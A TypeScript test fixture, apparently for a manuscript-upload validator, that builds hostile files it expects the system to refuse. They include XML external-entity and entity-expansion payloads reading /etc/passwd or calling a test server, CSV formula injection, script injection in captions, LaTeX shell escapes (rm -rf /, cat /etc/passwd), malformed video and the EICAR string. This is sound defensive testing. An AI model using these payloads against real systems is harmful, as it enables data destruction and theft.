import { article, filmOf } from './good-files.ts';
import type { Chance, HostileUpload } from './hostile-upload.ts';

const subset = (inside: string): string => `<!DOCTYPE article [${inside}]><article>&a;</article>`;
const lines = (...all: readonly string[]): string => all.join('\n');

const texts: readonly [
  harm: string,
  name: string,
  role: HostileUpload['role'],
  content: (chance: Chance) => string | Buffer,
][] = [
  ['entities', 'a.xml', 'manuscript', () => subset('<!ENTITY a "b">')],
  [
    'entities that grow',
    'a.xml',
    'manuscript',
    () => subset(Array.from({ length: 10 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('')),
  ],
  ['an entity from a file', 'a.xml', 'manuscript', () => subset('<!ENTITY a SYSTEM "file:///etc/passwd">')],
  [
    'an entity from a server',
    'a.xml',
    'manuscript',
    (chance) => subset(`<!ENTITY % a SYSTEM "http://192.0.2.${chance.below(255)}/x">%a;`),
  ],
  [
    'much before its root',
    'a.xml',
    'manuscript',
    (chance) => `<!--${'x'.repeat(70_000 + chance.below(900_000))}-->${article}`,
  ],
  [
    'another root',
    'a.xml',
    'manuscript',
    (chance) => `<${chance.pick(['html', 'svg', 'svg:svg', 'xsl:stylesheet', 'doi_batch', 'x'])}/>`,
  ],
  [
    'a command in a cell',
    'data.csv',
    'supplement',
    (chance) =>
      lines(
        'a,b',
        `1,${chance.pick(['=', '+', '-', '@'])}${chance.pick(['cmd', 'DDE', 'MSEXCEL', 'powershell'])}|' /C calc'!A0`,
      ),
  ],
  ['a command in quotes', 'data.csv', 'supplement', () => lines('a;b', '"=cmd|\' /C calc\'!A0";1')],
  ['a web page', 'data.csv', 'supplement', () => '<html><script>alert(1)</script></html>'],
  [
    'a script far inside',
    'notes.txt',
    'letter',
    (chance) => `${'Sample text. '.repeat(90_000 + chance.below(90_000))}<script>alert(1)</script>`,
  ],
  [
    'zeros',
    'notes.txt',
    'letter',
    (chance) => Buffer.concat([Buffer.from('Sample'), Buffer.alloc(1 + chance.below(9))]),
  ],
  [
    'zeros far inside',
    'data.csv',
    'supplement',
    () => Buffer.concat([Buffer.alloc(1_500_000, 'a,b\n'), Buffer.alloc(5)]),
  ],
  [
    'a script',
    'captions.vtt',
    'captions',
    () => lines('WEBVTT', '', '00:00.000 --> 00:02.000', '<script>alert(1)</script>'),
  ],
  [
    'a picture that calls',
    'captions.srt',
    'captions',
    () => lines('1', '00:00:00,000 --> 00:00:02,000', '<img src=x onerror=alert(1)>'),
  ],
  ['no captions', 'captions.vtt', 'captions', () => 'NOTWEBVTT'],
  [
    'a command of the machine',
    'paper.tex',
    'manuscript',
    () => '\\documentclass{article}\\immediate\\write18{rm -rf /}\\begin{document}',
  ],
  ['a pipe', 'paper.tex', 'manuscript', () => '\\documentclass{article}\\begin{document}\\input{|"cat /etc/passwd"}'],
  ['a web page before it', 'paper.tex', 'manuscript', () => '<script>alert(1)</script>\\documentclass{article}'],
  [
    'something behind it',
    'film.mp4',
    'video',
    (chance) => Buffer.concat([filmOf('isom'), chance.bytes(5 + chance.below(900))]),
  ],
  [
    'a web page in it',
    'film.mp4',
    'video',
    () => Buffer.concat([filmOf('isom').subarray(0, 24), Buffer.from('<html><script>x</script>'), filmOf('isom')]),
  ],
  [
    'boxes without size',
    'film.mov',
    'video',
    () => Buffer.concat([filmOf('qt  ').subarray(0, 24), Buffer.from('00000004', 'hex'), Buffer.from('moov')]),
  ],
  [
    'another kind of film',
    'film.mp4',
    'video',
    (chance) =>
      Buffer.concat([
        Buffer.from(
          chance.pick([
            '52494646ff0000004156492 04c495354'.replace(' ', ''),
            '1a45dfa3a34286810142f7810142f2810442f381084282886d6174726f736b61',
            '000001ba44000400',
          ]),
          'hex',
        ),
        Buffer.alloc(400),
      ]),
  ],
  ['nothing', 'paper.pdf', 'manuscript', () => ''],
];

export function badText(chance: Chance): HostileUpload {
  const [harm, name, role, content] = chance.pick(texts);
  const made = Buffer.from(content(chance) as string);
  return { harm: `${name} with ${harm}`, name, role, content: () => made, isRefused: true };
}

/** The letters by which virus scanners are tried out, in halves so that this file is no virus. */
export const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
